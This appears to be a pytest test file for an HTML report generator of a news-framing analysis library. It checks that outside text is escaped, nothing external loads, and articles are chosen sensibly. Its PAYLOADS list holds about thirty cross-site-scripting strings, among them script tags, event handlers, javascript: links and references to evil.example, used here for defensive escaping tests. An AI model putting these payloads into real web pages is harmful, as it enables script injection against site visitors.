"""The page of a corpus: what comes from outside stays text, nothing is loaded, and texts can be left out."""

import base64
import itertools
import re
from dataclasses import replace
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest

import framing
from framing.core import InputError, objects
from framing.core.tables import table
from framing.export.corpus_page import Study, corpus_page
from framing.export.telling import Telling, Term, telling_articles

VOID = {"meta", "br", "hr", "img", "link", "input"}
# Every element of the page, and the attributes it may have.
ALLOWED = {
    "html": {"lang"}, "head": set(), "meta": {"charset", "name", "content", "http-equiv"}, "title": set(), "style": set(),
    "body": set(), "main": set(), "header": set(), "h1": set(), "h2": set(), "h3": set(), "dl": {"class"}, "dt": set(), "dd": set(),
    "nav": {"aria-label"}, "a": {"href"}, "section": {"id"}, "p": {"class"}, "div": {"class", "role", "tabindex", "aria-label"},
    "table": set(), "caption": set(), "thead": set(), "tbody": set(), "tr": set(), "th": {"scope", "class"}, "td": {"class"},
    "small": set(), "b": set(), "details": set(), "summary": set(), "figure": set(), "img": {"src", "alt"}, "figcaption": set(),
    "article": set(), "mark": {"class"}, "ul": set(), "li": set(),
}  # fmt: skip
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" style="background:url(//evil.example)',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=x></form>",
    "<style>@import '//evil.example';</style>",
    "<body onload=alert(1)>",
    "<!-- x --><b>y</b>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<details open ontoggle=alert(1)>",
    "</td></tr></table><h1>x</h1>",
    "<td>x</td>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext></p><script>alert(1)</script></math>",
]
SVG = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><text>x</text></svg>'
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\nrest").decode()


class Page(HTMLParser):
    """Collects elements and text, and refuses tags that do not nest and attributes that are not expected."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements, self.open, self.content = [], [], []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        assert {name for name, _ in attrs} <= ALLOWED[tag]
        assert len({name for name, _ in attrs}) == len(attrs)
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_comment(self, data):
        pytest.fail(f"a comment: {data}")

    def unknown_decl(self, data):
        pytest.fail(f"a declaration: {data}")

    def handle_data(self, data):
        if "style" not in self.open:
            self.content.append(data)

    @property
    def text(self):
        return "".join(self.content)

    def tags(self, name):
        return [attrs for tag, attrs in self.elements if tag == name]


def rows(**columns):
    return table({name: objects(values) if isinstance(values[0], str | None) else np.array(values) for name, values in columns.items()})  # fmt: skip


def study_of(word="Clarion"):
    """A study in which every text from outside is one word."""
    ends = {"low": [0.1], "high": [0.3]}
    return Study(
        groups={word: 12, "Wire": 1010},
        title=word,
        by=word,
        comparison=rows(
            column=[word, "b__c_rate"], group=[word, word], n=[12, 12], mean=[2.0, -1.0], low=[1.0, -2.0], high=[3.0, np.nan],
            rest_n=[10, 10], rest_mean=[1.0, 0.0], difference=[1.0, -1.0], difference_low=[0.5, -3.0], difference_high=[1.5, 1.0],
            effect=[0.9, 0.1], p=[0.001, 0.7], q=[0.004, 0.7],
        ),
        keyness=rows(
            group=[word], term=[word], n=[7], rest_n=[1], n_docs=[3], rate=[1.5], rest_rate=[0.2], log_odds=[1.2], z=[4.0],
            p=[0.00001], q=[0.00002], context=[f"before {word} after"], **ends,
        ),
        sources=rows(group=[word], source=[word], n=[4], n_docs=[3], words=[90], share=[0.2], **ends),
        actors=rows(
            actor=[word], label=[word], group=[word], holder=[word], n_docs=[3], mentions=[9], balance=[-0.25], low=[np.nan], high=[np.nan]
        ),
        set_aside=rows(doc_id=[word], reason=[word]),
        figures={word: SVG},
        articles=[Telling(word, word, word, word, [(f"{word} and {word}!", [Term(0, len(word), word), Term(len(word) + 5, 2 * len(word) + 5, word, True)])])],
        names={word: word},
        methods=f"{word}\n\n{word}",
        notes=[word],
    )  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("texts", [True, False])
def test_what_comes_from_outside_is_text(payload, texts):
    """Markup in any name, title, text, note or column is characters on the page: no element, no attribute."""
    plain, page = Page(corpus_page(study_of(), texts=texts)), Page(corpus_page(study_of(payload), texts=texts))
    assert [tag for tag, _ in page.elements] == [tag for tag, _ in plain.elements]
    assert page.text.count(payload) >= plain.text.count("Clarion") - 2 * texts  # two are parted by the bold of a term
    assert page.text.count(payload) > 15


def test_a_payload_in_each_place_alone():
    """Every field is escaped: each place where a word of the study stands shows it."""
    word = "<i>ω</i>"
    page = Page(corpus_page(study_of(word)))
    assert page.text.count(word) == Page(corpus_page(study_of("ω"))).text.count("ω")
    assert page.tags("img")[0]["alt"] == word
    assert {div["aria-label"] for div in page.tags("div")} >= {f"Most typical of {word}", "Clear differences", "Actors"}


def test_nothing_is_loaded():
    """No address but places in the page and data of images, and the browser is told so."""
    page = Page(corpus_page(replace(study_of(), figures={"a": SVG, "b": PNG, "c": f"data:image/png;base64,{PNG}"})))
    assert all(link["href"].startswith("#") for link in page.tags("a"))
    assert [img["src"].split(",")[0] for img in page.tags("img")] == [
        "data:image/svg+xml;base64",
        *["data:image/png;base64"] * 2,
    ]
    (policy,) = [meta["content"] for meta in page.tags("meta") if meta.get("http-equiv") == "Content-Security-Policy"]
    assert policy.startswith("default-src 'none';")
    assert not re.search(r"url\(|@import|expression\(|http:|https:", corpus_page(replace(study_of(), figures={})))


def test_the_figure_is_the_image_given():
    """SVG is kept in the data as it is; its captions number the figures."""
    page = Page(corpus_page(study_of()))
    (img,) = page.tags("img")
    assert base64.b64decode(img["src"].split(",")[1]).decode() == SVG
    assert "Figure 1. Clarion" in page.text


@pytest.mark.parametrize(
    "image",
    [
        "",
        "x",
        "<p><svg/></p>",
        "javascript:alert(1)",
        "https://evil.example/x.png",
        "data:text/html;base64,AAAA",
        "AAAA",
        "é",
    ],
)
def test_what_is_no_image_is_an_error(image):
    with pytest.raises(InputError, match="'Rates' is neither SVG nor PNG"):
        corpus_page(Study({"Wire": 1}, figures={"Rates": image}))


def test_without_texts_no_text_is_left():
    """texts=False: no sentence, no title, no context, no reason of a term; figures in tables and ids stay."""
    study = study_of()
    article = Telling(
        "id-7", "Wire", "highest rate", "SECRET title", [("A SECRET sentence.", [Term(2, 8, "SECRET reason")])]
    )
    study = replace(study, articles=[article], keyness=study.keyness.assign(context="a SECRET context"))
    assert Page(corpus_page(study)).text.count("SECRET") == 5  # the term stands in its sentence and before its reason
    html = corpus_page(study, texts=False)
    assert "SECRET" not in html
    assert "Document id-7Wire · highest rate · id id-7" in Page(html).text
    assert Page(html).tags("mark") == []
    assert "in context" not in html


def test_contexts_are_not_asked_for_without_texts():
    study = replace(study_of(), keyness=study_of().keyness.drop(columns="context"))
    assert "+1.20" in corpus_page(study, texts=False)
    with pytest.raises(InputError, match="'context' of keyness"):
        corpus_page(study)


@pytest.mark.parametrize(
    ("name", "column", "maker"),
    [
        ("comparison", "q", "compare"),
        ("keyness", "z", "keyness"),
        ("sources", "share", "source_balance"),
        ("actors", "holder", "compare_actors"),
        ("set_aside", "reason", "report.set_aside"),
    ],
)
def test_a_table_without_a_column_is_an_error(name, column, maker):
    """The error names the column and what makes such tables."""
    study = study_of()
    with pytest.raises(InputError, match=f"'{column}' of {maker}"):
        corpus_page(replace(study, **{name: getattr(study, name).drop(columns=column)}))


def test_tables_can_be_read_aloud():
    """Every table has a caption and scoped headings, its scrolling part a name; headings go down in steps."""
    html = corpus_page(study_of())
    page = Page(html)
    assert len(page.tags("table")) == len(page.tags("caption")) == len(page.tags("div"))
    assert {th["scope"] for th in page.tags("th")} == {"row", "col"}
    assert all(div["aria-label"] and div["tabindex"] == "0" for div in page.tags("div"))
    levels = [int(tag[1]) for tag, _ in page.elements if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(b - a <= 1 for a, b in itertools.pairwise(levels))
    ids = [section["id"] for section in page.tags("section")]
    assert len(ids) == len(set(ids))
    assert [link["href"][1:] for link in page.tags("a")] == ids


def test_rows_of_a_table_are_equally_long():
    """Each body row has as many cells as there are column headings."""
    for texts in (True, False):
        html = corpus_page(study_of(), texts=texts)
        for part in re.findall("<table>.*?</table>", html, re.DOTALL):
            n_heads = part.count('scope="col"')
            for line in re.findall("<tr>.*?</tr>", part.split("<tbody>")[1], re.DOTALL):
                assert line.count("<td") + line.count("<th") == n_heads


def test_clear_differences_come_first():
    """Only rows with a small q and an effect of some size are shown at once, the largest first; all can be unfolded."""
    one = study_of().comparison.iloc[[0]]
    effects = [
        ("small", 0.1, 0.001),
        ("chance", 0.9, 0.4),
        ("down", -0.8, 0.01),
        ("up", 0.5, 0.01),
        ("unknown", np.nan, np.nan),
    ]
    comparison = pd.concat([one.assign(column=name, effect=effect, q=q) for name, effect, q in effects])
    html = corpus_page(replace(study_of(), comparison=comparison))
    first, rest = html.split("<details>", 1)
    heads = re.findall('<th scope="row">(.*?)</th>', first)
    assert heads == ["down", "up"]
    assert re.findall('<th scope="row">(.*?)</th>', rest)[: len(effects)] == [name for name, _, _ in effects]
    assert "All 5 comparisons" in rest


def test_numbers_are_written_for_people():
    """Intervals and n stand by the mean, signs by differences, a dash where nothing is known."""
    text = Page(corpus_page(study_of("Clarion"))).text.replace("\u00a0", " ")
    assert "1,022 documents" in text
    assert "Clarion (12); Wire (1,010)" in text
    assert "2.001.00 to 3.00; n = 12" in text
    assert "+1.00+0.50 to +1.50" in text
    assert "<0.001" in text
    assert "nan" not in text.lower()


def test_a_term_is_bold_in_its_context():
    """As it is written there, and in whatever case."""
    study = study_of()
    html = corpus_page(replace(study, keyness=study.keyness.assign(term="a+b", context="so A+B is <b>")))
    assert "so <b>A+B</b> is &lt;b&gt;" in html


def test_what_html_cannot_hold_is_replaced():
    """NULs, controls and lone surrogates become U+FFFD."""
    html = corpus_page(study_of("a\x00b\udc80c\x07"))
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", html)
    assert "a\ufffdb\ufffdc\ufffd" in html


def test_an_empty_study_is_a_page():
    """Sections of which nothing is known are left out, with their links; the page depends on nothing else."""
    page = Page(corpus_page(Study({})))
    assert page.tags("section") == page.tags("a") == page.tags("nav") == []
    assert "0 documents" in page.text
    empty = replace(
        study_of(),
        **{
            name: getattr(study_of(), name).iloc[:0]
            for name in ("comparison", "keyness", "sources", "actors", "set_aside")
        },
    )
    assert [section["id"] for section in Page(corpus_page(empty)).tags("section")] == [
        "figures",
        "articles",
        "methods",
        "notes",
    ]


def test_inputs_are_not_changed():
    """The same study gives the same page, and its tables stay as they were."""
    study, same = study_of(), study_of()
    assert corpus_page(study) == corpus_page(study)
    for name in ("comparison", "keyness", "sources", "actors"):
        pd.testing.assert_frame_equal(getattr(study, name), getattr(same, name))


# ---- choosing articles


def scored(*rates, words=200):
    """Scores and metadata of articles, by two outlets in turn."""
    scores = pd.DataFrame(
        {"n_own_words": words, "loaded__terms_rate": rates}, index=[f"d{i}" for i in range(len(rates))]
    )
    outlets = [("Clarion", "Wire")[i % 2] for i in range(len(rates))]
    return scores, pd.DataFrame(
        {"outlet": outlets, "title": [f"Title {i}" for i in range(len(rates))]}, index=scores.index
    )


NO_SENTENCES = pd.DataFrame({"doc_id": [], "start": [], "end": [], "text": []})
NO_TERMS = pd.DataFrame({"doc_id": [], "start": [], "end": [], "score": [], "voice": [], "label": [], "note": []})


def test_the_extremes_and_the_middle_are_chosen():
    """Two highest, two lowest, then the ones nearest to the median of each group, in turn."""
    scores, meta = scored(50.0, 0.0, 40.0, 1.0, 10.0, 5.0, 11.0, 6.0, 30.0, 7.0)
    chosen = telling_articles(scores, meta, NO_SENTENCES, NO_TERMS, n=6)
    assert [article.doc_id for article in chosen] == ["d0", "d2", "d1", "d3", "d5", "d8"]
    assert [article.why.split(" ")[0] for article in chosen] == [
        "highest",
        "highest",
        "lowest",
        "lowest",
        "near",
        "near",
    ]
    assert [article.group for article in chosen[4:]] == ["Wire", "Clarion"]
    assert chosen[0].title == "Title 0"


def test_short_articles_and_those_without_a_group_are_not_chosen():
    scores, meta = scored(50.0, 40.0, 30.0, np.nan)
    scores.loc["d0", "n_own_words"] = 149
    meta.loc["d1", "outlet"] = None
    chosen = telling_articles(scores, meta, NO_SENTENCES, NO_TERMS)
    assert [article.doc_id for article in chosen] == ["d2"]
    assert chosen[0].why.startswith("highest")


def test_of_equal_rates_the_longer_article_is_chosen():
    """A rate of 0 says more of a long article."""
    scores, meta = scored(0.0, 0.0, 0.0, 9.0, 8.0, words=[200, 900, 500, 200, 200])
    chosen = telling_articles(scores, meta, NO_SENTENCES, NO_TERMS, n=4)
    assert [article.doc_id for article in chosen] == ["d3", "d4", "d1", "d2"]


def test_the_loudest_sentences_are_shown_with_their_terms():
    """Up to three sentences with the outlet's own loaded terms, in order, not the title again; each term is where it says."""
    quiet = "The council met on Monday. " * 40
    text = f"The regime\n\n{quiet}The cruel regime fell. “The vile thugs!” Reyes said. A vicious, heartless mob cheered. The regime was gone. Thugs and crooks fled."
    report = framing.analyze(pd.Series({"d": text}))
    meta = pd.DataFrame({"outlet": ["Clarion"], "title": ["The regime"]}, index=["d"])
    (article,) = telling_articles(report.scores, meta, report.sentences(), report.evidence("loaded"))
    shown = [sentence for sentence, _ in article.sentences]
    assert shown == ["The cruel regime fell.", "A vicious, heartless mob cheered.", "Thugs and crooks fled."]
    for sentence, terms in article.sentences:
        assert terms
        assert all(term.end <= after.start for term, after in itertools.pairwise(terms))
        assert all(sentence[term.start : term.end].strip() and term.reason and not term.quoted for term in terms)
    assert (
        Page(corpus_page(Study({"Clarion": 1}, articles=[article]))).text.count("crooks") == 2
    )  # marked, and before its reason


def test_choosing_needs_groups_and_loaded_terms():
    scores, meta = scored(1.0, 2.0)
    with pytest.raises(InputError, match="'source' in the metadata"):
        telling_articles(scores, meta, NO_SENTENCES, NO_TERMS, by="source")
    with pytest.raises(InputError, match="measure loaded terms"):
        telling_articles(scores.drop(columns="loaded__terms_rate"), meta, NO_SENTENCES, NO_TERMS)
